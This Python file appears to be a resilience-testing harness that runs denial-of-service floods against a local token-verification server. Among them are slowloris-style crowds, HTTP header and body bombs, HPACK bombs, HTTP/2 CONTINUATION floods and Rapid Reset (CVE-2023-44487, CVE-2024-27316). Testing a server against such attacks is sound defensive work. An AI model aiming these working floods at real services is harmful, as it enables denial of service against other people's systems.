"""Floods, each in a process of its own: floods.py NAME PORT

Floods until its stdin is closed, then prints one line of JSON: how much it did.
All of it goes out from addresses of 127.0.0.0/8 that no good caller has.
Callers are measured beside it, so the floods write what was put together before.
"""

import base64
import json
import os
import select
import socket
import struct
import sys
import threading
import time

import http2
from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS,
                   PING, RST_STREAM, SETTINGS)

VERIFY = "/ostiary.v1.TokenService/Verify"
CROWD = 2000
_SOURCES = [f"127.0.0.{n}" for n in range(2, 10)]


def is_over():
    return bool(select.select([sys.stdin], [], [], 0)[0])


def dial(port, number=0, receive_buffer=None):
    wire = socket.socket()
    if receive_buffer:
        wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    wire.bind((_SOURCES[number % len(_SOURCES)], 0))
    wire.settimeout(5)
    wire.connect(("127.0.0.1", port))
    return wire


def crowd(port, members):
    """CROWD connections, of these kinds in turn: each says its first words and,
    every second, its next ones. Whoever is cut off comes again."""
    wires, refused, cut_off = {}, 0, 0

    def connect(number):
        nonlocal refused
        try:
            wires[number] = dial(port, number)
            wires[number].sendall(members[number % len(members)][0])
            wires[number].setblocking(False)
        except OSError:
            wires.pop(number, None)
            refused += 1

    def is_alive(number):
        wire, more = wires[number], members[number % len(members)][1]
        try:
            if more:
                wire.send(more)
            return more is None or bool(wire.recv(1 << 16))
        except BlockingIOError:
            return True
        except OSError:
            return False

    for number in range(CROWD):
        connect(number)
    print(json.dumps({"standing": len(wires)}), flush=True)
    while not is_over():
        time.sleep(1)
        gone = [number for number in wires if not is_alive(number)]
        for number in gone:
            wires.pop(number).close()
        cut_off += len(gone)
        # Not all at once: to dial costs the flood as much as the server.
        for number in [n for n in range(CROWD) if n not in wires][:200]:
            connect(number)
    return {"refused": refused, "cut off": cut_off}


def http_crowd(port):
    ask = b"GET /.well-known/jwks.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    return crowd(port, [
        (b"", b""),
        (b"POST /x HTTP/1.1\r\nA: ", b"a"),
        (b"POST /ostiary.v1.TokenService/Verify HTTP/1.1\r\nHost: 127.0.0.1"
         b"\r\nContent-Type: application/json\r\nContent-Length: 1000"
         b"\r\n\r\n", b" "),
        # Asks for more than the buffers take, and reads nothing.
        (ask * 100, None)])


def grpc_crowd(port):
    block = http2.call_headers(VERIFY)
    return crowd(port, [
        (b"", b""),
        # Only the idle time counts for who has finished HTTP/2's greeting.
        (http2.hello(), b""),
        (http2.hello() + http2.frame(HEADERS, 0, 1, block[:20]),
         http2.frame(CONTINUATION, 0, 1, b"")),
        (http2.hello() + http2.frame(HEADERS, END_HEADERS, 1, block) +
         http2.frame(DATA, 0, 1, struct.pack(">BI", 0, 1000)),
         http2.frame(DATA, 0, 1, b"a"))])


def tls_half(port):
    """The beginning of a ClientHello, and no more of it."""
    return crowd(port, [
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"")])


def grpc_unread(port):
    """Calls whose answers may not be sent: a window of 0."""
    calls = b"".join(
        http2.unary(2 * n + 1, http2.call_headers(VERIFY), b"\x0a\x01x")
        for n in range(100))
    wires = []
    for number in range(40):
        wires.append(dial(port, number))
        wires[-1].sendall(http2.hello(initial_window_size=0) + calls)
    print(json.dumps({"standing": len(wires)}), flush=True)
    while not is_over():
        time.sleep(0.1)
    return {"calls": 100 * len(wires)}


def pour(port, make, connections=4, pause=0.0, most=1 << 40):
    """Writes what `make` gives, as fast as it is taken, up to so many bytes."""
    sent, cut, over = [0], [0], threading.Event()

    def one(number):
        while not over.is_set():
            try:
                wire = dial(port, number)
                wire.settimeout(0.5)
                for chunk in make():
                    while sent[0] >= most and not over.is_set():
                        time.sleep(0.05)
                    if over.is_set():
                        break
                    wire.sendall(chunk)
                    sent[0] += len(chunk)
                    while select.select([wire], [], [], pause)[0]:
                        if not wire.recv(1 << 18):
                            raise ConnectionError
                wire.close()
            except OSError:
                cut[0] += 1
                wire.close()
                time.sleep(0.05)

    threads = [threading.Thread(target=one, args=(n,), daemon=True)
               for n in range(connections)]
    for thread in threads:
        thread.start()
    print(json.dumps({"standing": connections}), flush=True)
    while not is_over():
        time.sleep(0.05)
    over.set()
    for thread in threads:
        thread.join(3)
    return {"bytes": sent[0], "cut off": cut[0]}


def endlessly(first, block):
    yield first
    while True:
        yield block


def http_header_bomb(port):
    line = b"A" * 60 + b": " + b"b" * 1000 + b"\r\n"
    return pour(port, lambda: endlessly(
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", line * 60), pause=0.002)


def http_body_bomb(port):
    return pour(port, lambda: endlessly(
        b"POST /ostiary.v1.TokenService/Verify HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"4000\r\n" + b"a" * 0x4000 + b"\r\n"), pause=0.002)


def grpc_body_bomb(port):
    """A message of 4 GB, in pieces."""
    data = http2.frame(DATA, 0, 1, b"a" * 16000)
    return pour(port, lambda: endlessly(
        http2.hello() + http2.frame(HEADERS, END_HEADERS, 1,
                                    http2.call_headers(VERIFY)) +
        http2.frame(DATA, 0, 1, struct.pack(">BI", 0, 0xffffffff)), data),
        pause=0.002)


def grpc_continuation(port):
    """A header block without an end."""
    more = http2.frame(CONTINUATION, 0, 1,
                       http2.literal(b"x", b"a" * 16000))
    return pour(port, lambda: endlessly(
        http2.hello() + http2.frame(HEADERS, 0, 1, http2.call_headers(VERIFY)),
        more), pause=0.002)


def grpc_empty_continuation(port):
    """CVE-2024-27316 and its family: frames that hold nothing."""
    more = http2.frame(CONTINUATION, 0, 1, b"") * 500
    return pour(port, lambda: endlessly(
        http2.hello() + http2.frame(HEADERS, 0, 1, http2.call_headers(VERIFY)),
        more), connections=1, pause=0.002)


# For what no bound holds: 70 times as much in the server's memory.
_BEYOND_BOUNDS = 12 << 20


def _streams(block, per_write, first=b""):
    def make():
        yield http2.hello() + first
        for start in range(1, 2**31 - 2 * per_write, 2 * per_write):
            yield b"".join(block(stream) for stream in
                           range(start, start + 2 * per_write, 2))
    return make


def grpc_hpack_bomb(port):
    """A byte each for a header of 4 KB that the other side remembers."""
    hello = http2.frame(
        HEADERS, END_HEADERS | END_STREAM, 1, http2.call_headers(
            VERIFY, http2.remembered(b"x", b"a" * 3900)))
    bomb = http2.of_table(62) * 4000
    return pour(port, _streams(
        lambda stream: http2.frame(HEADERS, END_HEADERS | END_STREAM,
                                   stream + 2,
                                   http2.call_headers(VERIFY) + bomb), 1,
        hello), connections=2, pause=0.005)


def grpc_rapid_reset(port):
    """CVE-2023-44487: streams that are opened and cancelled at once."""
    headers = http2.call_headers(VERIFY)
    body = http2.message(b"\x0a\x01x")
    return pour(port, _streams(
        lambda stream: http2.frame(HEADERS, END_HEADERS, stream, headers) +
        http2.frame(DATA, END_STREAM, stream, body) +
        http2.frame(RST_STREAM, 0, stream, http2.CANCEL), 100),
        connections=2, pause=0.002, most=_BEYOND_BOUNDS)


def grpc_many_streams(port):
    """More streams than are granted, none of which ends."""
    headers = http2.call_headers(VERIFY)
    return pour(port, _streams(
        lambda stream: http2.frame(HEADERS, END_HEADERS, stream, headers), 100),
        connections=4, pause=0.01, most=_BEYOND_BOUNDS)


def grpc_ping(port):
    return pour(port, lambda: endlessly(http2.hello(), http2.frame(
        PING, 0, 0, b"12345678") * 500), connections=2, pause=0.002)


def grpc_settings(port):
    return pour(port, lambda: endlessly(http2.hello(), http2.settings(
        initial_window_size=65535) * 500), connections=2, pause=0.002)


def unknown_key_ids(first, count):
    """Tokens that name keys nobody has."""
    def part(raw):
        return base64.urlsafe_b64encode(raw).rstrip(b"=")

    rest = b"." + part(b'{"iss":"x"}') + b"." + part(b"s" * 64)
    for number in range(first, first + count):
        yield part(b'{"alg":"EdDSA","typ":"at+jwt","kid":"%043x"}' %
                   number) + rest


def grpc_unknown_keys(port):
    """4,000 a second, which leaves a processor something to do besides."""
    headers, asked, answered = http2.call_headers(VERIFY), 0, 0
    print(json.dumps({"standing": 1}), flush=True)
    while not is_over():
        wire = http2.Wire(port, source=_SOURCES[0])
        answers = wire.frames()
        for start in range(1, 20000, 40):
            if is_over():
                break
            wire.send(b"".join(
                http2.unary(stream, headers,
                            b"\x0a" + bytes((len(t) & 127 | 128, len(t) >> 7))
                            + t)
                for stream, t in zip(range(start, start + 40, 2),
                                     unknown_key_ids(asked, 20))))
            asked += 20
            ended = 0
            while ended < 20:
                kind, flags, _, _ = next(answers)
                if kind == SETTINGS and not flags & ACK:
                    wire.send(http2.frame(SETTINGS, ACK))
                ended += kind == HEADERS and bool(flags & END_STREAM)
            answered += ended
            # Its answers take window of the connection.
            wire.send(http2.frame(http2.WINDOW_UPDATE, 0, 0,
                                  struct.pack(">I", 1 << 15)))
            time.sleep(0.005)
        wire.close()
    return {"asked": asked, "answered": answered}


def burn(share):
    """No flood at all: what one takes of the machine's processors, in
    hundredths of one."""
    print(json.dumps({"standing": 0}), flush=True)
    while not is_over():
        end = time.thread_time() + 0.0001 * share
        while time.thread_time() < end:
            pass
        time.sleep(max(0, 0.0001 * (100 - share)))
    return {}


FLOODS = {name: function for name, function in list(globals().items())
          if name.startswith(("http_", "grpc_", "tls_", "burn"))}

if __name__ == "__main__":
    name, port = sys.argv[1:]
    told = FLOODS[name](int(port))
    print(json.dumps({**told, "cpu": round(sum(os.times()[:2]), 2)}),
          flush=True)
    os._exit(0)  # thousands of sockets need not be closed one by one
